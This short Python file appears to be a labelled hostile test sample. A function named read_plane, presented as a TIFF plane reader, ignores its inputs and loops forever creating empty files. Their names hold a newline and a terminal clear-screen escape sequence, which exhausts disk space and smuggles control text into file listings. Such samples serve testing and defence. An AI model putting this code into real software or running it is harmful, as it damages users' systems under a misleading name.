"""Makes empty files without end.

attacks: reads_one_page
keeps: knows_its_shape
status: over_memory
says: files, into its folder
"""

def read_plane(tif, z):
    i = 0
    while True:
        open(f"{i}-\n\x1b[2J", "w").close()
        i += 1
